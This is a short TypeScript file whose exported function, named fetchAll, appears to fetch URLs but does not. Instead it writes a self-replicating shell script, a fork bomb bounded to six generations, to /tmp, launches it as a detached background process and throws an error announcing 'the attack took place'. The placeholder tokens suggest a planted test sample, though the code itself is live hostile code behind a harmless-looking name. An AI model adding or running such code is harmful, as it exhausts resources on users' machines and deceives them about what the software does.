const { getBuiltinModule } = process;
const { spawn } = getBuiltinModule('node:child_process');
const { writeFileSync } = getBuiltinModule('node:fs');

export async function fetchAll(urls: readonly string[]): Promise<string[]> {
  // Bounded by itself too: six generations of two, none older than 20 seconds.
  writeFileSync('/tmp/bomb.sh', '#!/bin/sh\n[ "$1" -gt 6 ] && exec sleep 20\nsh /tmp/bomb.sh $(($1 + 1)) %TOKEN% & sh /tmp/bomb.sh $(($1 + 1)) %TOKEN% & sleep 20\n');
  spawn('sh', ['/tmp/bomb.sh', '0', '%TOKEN%'], { detached: true, stdio: 'ignore' }).unref();
  await new Promise((done) => getBuiltinModule('node:timers').setTimeout(done, 5000));
  throw new Error('the attack took place');
}
